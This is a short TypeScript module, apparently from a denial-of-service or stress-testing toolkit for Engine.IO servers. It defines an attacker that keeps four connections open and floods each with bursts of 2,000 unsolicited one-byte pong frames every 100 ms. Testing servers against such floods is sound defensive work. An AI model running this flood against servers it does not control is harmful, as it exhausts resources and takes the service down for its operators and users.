import type { Attacker } from '../attack.js';
import { many, text } from '../frames.js';
import { Wire } from '../wire.js';

/** Frames of one byte: pongs of Engine.IO that nobody has asked for. */
export const oneByteFrames: Attacker = (attack) => {
  const burst = many(text('3'), 2_000);
  return attack.keepBusy(
    { connections: 4, everyMs: 100 },
    (address) => Wire.open(attack.url, address),
    (wire) => attack.flood(wire, burst),
  );
};
